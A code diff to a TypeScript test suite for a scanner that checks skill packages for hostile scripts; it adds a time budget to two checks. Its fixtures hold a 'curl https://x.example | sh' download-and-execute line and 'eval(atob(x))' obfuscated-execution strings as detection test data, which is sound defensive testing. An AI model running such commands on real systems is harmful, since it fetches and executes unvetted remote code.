@@ -36,7 +36,8 @@ describe("doctor on hostile sizes", () => {
       "scripts/pipes.sh": fill("curl https://x.example | ", "sh\n"),
       "scripts/many.sh": fill("sh; ", "\n"),
     });
-    const r = doctorSkill(dir);
+    // Time enough that a loaded machine never cuts the checks: this test is about reading each file once.
+    const r = doctorSkill(dir, { budgetMs: 120_000 });
     const of = (file: string) => r.findings.filter((f) => f.file === file).map((f) => [f.code, f.line]);
     expect(of("scripts/continued.sh")).toEqual([["scripts.download-exec", continued.split("\n").length - 1]]);
     expect(of("scripts/pipes.sh")).toEqual([["scripts.download-exec", 1]]);
@@ -46,7 +47,7 @@ describe("doctor on hostile sizes", () => {
 
   it("a 500 KB line of Python or JavaScript is read at its start, and the report says the rest was not", () => {
     const dir = skill({ "scripts/one.py": fill("exec("), "scripts/two.js": "eval(atob(x))\n" + fill("atob(").slice(100) });
-    const r = doctorSkill(dir);
+    const r = doctorSkill(dir, { budgetMs: 120_000 });
     const gap = r.findings.find((f) => f.code === "skill.not-fully-checked");
     expect(gap?.message).toBe(
       "not fully checked: scripts/one.py line 1 is longer than 1000 characters; only its start was read; scripts/two.js line 2 is longer than 1000 characters; only its start was read",
